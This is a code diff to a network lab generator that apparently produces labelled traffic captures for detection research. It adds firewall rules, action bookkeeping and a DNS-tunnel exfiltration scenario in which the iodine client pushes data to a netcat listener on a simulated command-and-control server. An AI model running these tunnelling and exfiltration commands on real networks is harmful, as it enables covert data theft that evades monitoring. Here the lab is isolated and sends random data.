@@ -134,16 +134,21 @@ class Lab:
     def action(self, label, tool, variant, role, targets, t0, t1, **extra):
         a = {"id": len(self.actions), "label": label, "tool": tool, "variant": variant,
              "host": role, "src": self.ip[role], "targets": sorted({self.ip[t] for t in targets}),
-             "t0": round(t0, 6), "t1": round(t1, 6), **extra}
+             "t0": round(t0, 6), "t1": None if t1 is None else round(t1, 6), **extra}
         with self.alock:
             a["id"] = len(self.actions)
             self.actions.append(a)
+        return a
 
     def act(self, label, tool, variant, role, targets, cmd, timeout, stdin_data=None, **extra):
+        # Recorded before it runs (t1 = None while running), so an action still running when
+        # the capture stops keeps its flows: its window then ends at the capture's end.
         t0 = time.time()
+        if label != "benign" and "args" not in extra:
+            extra["args"] = " ".join(map(str, cmd[1:]))
+        a = self.action(label, tool, variant, role, targets, t0, None, **extra)
         rc = self.run_in(role, cmd, timeout, stdin_data)
-        t1 = time.time()
-        self.action(label, tool, variant, role, targets, t0, t1, rc=rc, **extra)
+        a["t1"], a["rc"] = round(time.time(), 6), rc
         return rc
 
     def sleep(self, s: float) -> bool:
@@ -207,10 +212,46 @@ class Lab:
             if routes:
                 raise RuntimeError(f"{n} has a default route ({routes}); refusing to run")
         sh("ip", "netns", "exec", sw, "sysctl", "-qw", "net.ipv6.conf.all.disable_ipv6=1", check=False)
+        self.firewall()
         # ARP entries settle before the capture starts.
         for role in self.roles:
             sh("ip", "netns", "exec", self.ns(role), "ping", "-c", "1", "-W", "1",
                self.ip[self.servers[0]], check=False)
+
+    def firewall(self):
+        """Some servers drop what is not a service (filtered ports, as behind most firewalls)."""
+        services = {
+            "web1": ("tcp", [self.port["http"], self.port["https"]]),
+            "web2": ("tcp", [self.port["http"], self.port["https"]]),
+            "ssh": ("tcp", [self.port["ssh"]]),
+            "ftp": ("tcp", [self.port["ftp"], "40000-40999"]),
+            "dns": ("udp", [53]),
+            "c2srv": ("tcp", [self.port["c2http"], self.port["c2https"]]),
+        }
+        self.filtered = []
+        for role, (proto, ports) in services.items():
+            if self.rng.random() >= 0.5:
+                continue
+            plist = ", ".join(map(str, ports))
+            rules = f"""table inet twlab {{
+  chain input {{
+    type filter hook input priority 0; policy accept;
+    ct state established,related accept
+    iif lo accept
+    meta l4proto icmp accept
+    {proto} dport {{ {plist} }} accept
+    {"tcp dport 53 accept" if role == "dns" else ""}
+    {"udp dport 53 accept" if role == "c2srv" else ""}
+    meta l4proto {{ tcp, udp }} {self.rng.choice(["drop", "drop", "reject"])}
+  }}
+}}
+"""
+            p = subprocess.run(["ip", "netns", "exec", self.ns(role), "nft", "-f", "-"], input=rules,
+                               text=True, capture_output=True)
+            if p.returncode == 0:
+                self.filtered.append(role)
+            else:
+                self.errors[f"nft {role}: {p.stderr.strip()[:200]}"] += 1
 
     # ---------------------------------------------------------------- content
     def content(self):
@@ -299,6 +340,7 @@ class Lab:
             for n, a in self.names.items():
                 f.write(f"{a} {n}\n")
         self.exfil_domain = f"{r.choice(WORDS)}{r.randint(1, 99)}.{r.choice(['net', 'info', 'io', 'xyz'])}"
+        self.tunnel_domain = f"{r.choice('tdxq')}.{r.choice(WORDS)}{r.randint(100, 999)}.{r.choice(['com', 'org', 'cc'])}"
         # Word lists for hydra (the right password is in some lists, not in others).
         self.wordlists = {}
         for svc in ("ssh", "http", "ftp"):
@@ -366,7 +408,16 @@ http {{
             dns_args.append(f"--address=/{self.exfil_domain}/{self.ip['c2srv']}")
         else:
             dns_args.append(f"--local=/{self.exfil_domain}/")
+        # The iodine tunnel's domain is delegated (forwarded) to the attacker's server.
+        dns_args.append(f"--server=/{self.tunnel_domain}/{self.ip['c2srv']}")
         self.popen("dns", dns_args)
+        r = self.rng
+        net = f"10.{r.randrange(100, 200)}.{r.randrange(256)}"
+        self.tunnel_ip = f"{net}.1"
+        self.tunnel_pw = "".join(r.choice("abcdefghijkmnpqrstuvwxyz23456789") for _ in range(12))
+        self.popen("c2srv", ["iodined", "-f", "-c", "-P", self.tunnel_pw, "-l", self.ip["c2srv"],
+                             "-m", str(r.choice([1130, 1200])), f"{net}.1/27", self.tunnel_domain])
+        self.popen("c2srv", ["sh", "-c", f"while sleep 0.2; do nc -l -n -s {net}.1 -p 4444 > /dev/null; done"])
         with open(f"{d}/sshd_config", "w") as f:
             f.write(f"""Port {self.port['ssh']}
 ListenAddress {self.ip['ssh']}
@@ -610,8 +661,14 @@ ftp_username=nobody
         r = self.rng_t()
         if not self.sleep(r.uniform(5, 30)):
             return
-        sessions = r.randint(2, 4)
-        for s in range(sessions):
+        sessions = r.randint(2, 3)
+        iodine_at = r.randrange(sessions + 1)
+        for s in range(sessions + 1):
+            if s == iodine_at:
+                self.iodine(r)
+                if not self.sleep(r.uniform(3, 10)):
+                    return
+                continue
             data = os.urandom(r.randint(4, 24) << 10)
             enc = r.choice(["b32", "hex", "b64"])
             if enc == "b32":
@@ -643,6 +700,31 @@ ftp_username=nobody
                 if not self.sleep(gap * r.uniform(0.5, 1.5)):
                     return
             self.sleep(r.uniform(3, 15))
+
+    def iodine(self, r):
+        """A real DNS tunnel (iodine) through the resolver, which forwards the domain to c2srv."""
+        if not self.live():
+            return
+        direct = r.random() < 0.25
+        server = self.ip["c2srv" if direct else "dns"]
+        opts = ["-T", r.choice(["NULL", "PRIVATE", "TXT", "SRV", "MX", "CNAME", "A"]),
+                "-O", r.choice(["Base32", "Base64", "Base128"]),
+                "-I", str(r.choice([1, 2, 4])), "-M", str(r.choice([120, 180, 255]))]
+        if r.random() < 0.3:
+            opts.append("-L0")
+        size = r.randint(30, 300) << 10
+        hold = r.uniform(25, 45)
+        script = (f"iodine -f -r -P {self.tunnel_pw} {' '.join(opts)} {server} {self.tunnel_domain} & IOD=$!; "
+                  f"for i in $(seq 1 20); do ip addr show dns0 2>/dev/null | grep -q inet && break; sleep 0.5; done; "
+                  f"head -c {size} /dev/urandom | timeout {hold:.0f} nc -n -q 1 {self.tunnel_ip} 4444; "
+                  f"sleep {r.uniform(1, 5):.1f}; kill $IOD")
+        t0 = time.time()
+        # The resolver's forwarded queries to c2srv belong to the tunnel too.
+        fwd = None if direct else self.action("exfil", "iodine", "iodine-forwarded", "dns", ["c2srv"], t0, None)
+        self.act("exfil", "iodine", "iodine" + ("-direct" if direct else ""), "exfil",
+                 ["c2srv" if direct else "dns"], ["sh", "-c", script], hold + 20, args=script)
+        if fwd is not None:
+            fwd["t1"] = round(time.time() + 2, 6)
 
     def implant(self):
         r = self.rng_t()
@@ -703,10 +785,13 @@ ftp_username=nobody
         t_stop = time.time()
         log(f"capture done ({t_stop - t_start:.0f} s); {len(self.actions)} actions")
         with open(self.stem + ".actions.jsonl", "w") as f:
-            for a in self.actions:
+            for a in list(self.actions):
+                if a["t1"] is None:
+                    a = dict(a, t1=round(t_stop, 6), rc="running at capture end")
                 f.write(json.dumps(a, sort_keys=True) + "\n")
         meta = {"seed": self.seed, "roles": self.ip, "ports": self.port, "zone": self.zone,
-                "exfil_domain": self.exfil_domain, "duration_s": round(t_stop - t_start, 1),
+                "exfil_domain": self.exfil_domain, "tunnel_domain": self.tunnel_domain,
+                "filtered_servers": self.filtered, "duration_s": round(t_stop - t_start, 1),
                 "client_errors": dict(self.errors)}
         return pcap, meta
 
